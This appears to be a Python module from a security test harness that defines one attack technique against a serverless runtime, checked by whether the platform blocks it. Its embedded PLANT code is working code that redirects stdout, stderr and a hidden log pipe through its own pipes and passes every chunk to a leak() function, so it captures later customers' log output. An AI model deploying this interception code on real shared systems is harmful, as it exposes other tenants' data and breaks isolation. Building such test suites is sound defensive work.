"""Replaces standard output and standard error with its own pipe, and reads the output of later customers' invocations."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import fcntl, threading
def is_log(number):
    # Lambda's images have a pipe of its own for the log, whose number is known to the runtime alone.
    try:
        is_pipe = os.readlink(f"/proc/self/fd/{number}").startswith("pipe:")
        return is_pipe and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
    except OSError:
        return False
def carry(inside, real):
    while True:
        data = os.read(inside, 65536)
        leak(data.decode(errors="replace"))
        os.write(real, data)
for number in [1, 2, *(n for n in map(int, os.listdir("/proc/self/fd")) if n > 2 and is_log(n))]:
    inside, outside = os.pipe()
    real = os.dup(number)
    os.dup2(outside, number)
    os.close(outside)
    threading.Thread(target=carry, args=(inside, real), daemon=True).start()
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1056", "T1562.006"),
    family="D4",
    must_fail_to="read a later customer's log record",
    plant=PLANT,
    evidence=Cards(),
)
